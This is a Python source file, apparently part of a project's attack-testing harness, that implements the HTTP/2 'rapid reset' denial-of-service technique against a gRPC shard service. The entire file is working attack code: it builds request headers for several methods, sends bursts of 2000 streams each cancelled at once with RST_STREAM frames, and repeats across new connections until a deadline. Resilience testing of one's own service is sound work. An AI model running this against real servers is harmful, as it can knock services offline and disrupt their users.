"""Calls that are reset as soon as they are opened, as fast as one connection takes them."""

from __future__ import annotations

import itertools
import socket
import struct
import sys
import time
from collections.abc import Iterable, Iterator
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import RST_STREAM, call, connected, drain, frame, header_block
from headrace.v1 import shard_service_pb2 as pb

_METHODS = ("ReadBatches", "ListDatasets", "GetDataset")
CANCEL = struct.pack(">I", 8)
_BURST = 2000
_REQUEST = pb.ReadBatchesRequest(
    dataset="small", global_batch_size=100, world_size=1, epoch_start=pb.EpochStart()
).SerializeToString()


def blocks_of(target: Target) -> list[bytes]:
    """Return the headers of calls of several methods."""
    return [header_block(f"/headrace.v1.ShardService/{name}", target.metadata) for name in _METHODS]


def resets(target: Target, count: int) -> bytes:
    """Return the frames of calls that are reset at once, all that a connection brings."""
    return b"".join(_reset_calls(blocks_of(target), range(1, 2 * count, 2)))


def _reset_calls(blocks: list[bytes], streams: Iterable[int]) -> Iterator[bytes]:
    for block, stream in zip(itertools.cycle(blocks), streams, strict=False):
        yield call(stream, block, _REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)


def _strike(target: Target, begin: Begin) -> Counts:
    blocks = blocks_of(target)
    resets = connections = 0
    until = begin()
    while time.monotonic() < until:
        with suppress(OSError), connected(target.place) as connection:
            connections += 1
            resets += _reset(connection, blocks, until)
    return {"resets": resets, "connections": connections}


def _reset(connection: socket.socket, blocks: list[bytes], until: float) -> int:
    resets = 0
    streams = itertools.count(1, 2)
    while time.monotonic() < until and drain(connection):
        connection.sendall(b"".join(_reset_calls(blocks, itertools.islice(streams, _BURST))))
        resets += _BURST
    return resets


ATTACK = Attack("rapid reset", _strike, needs_proxy=True)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
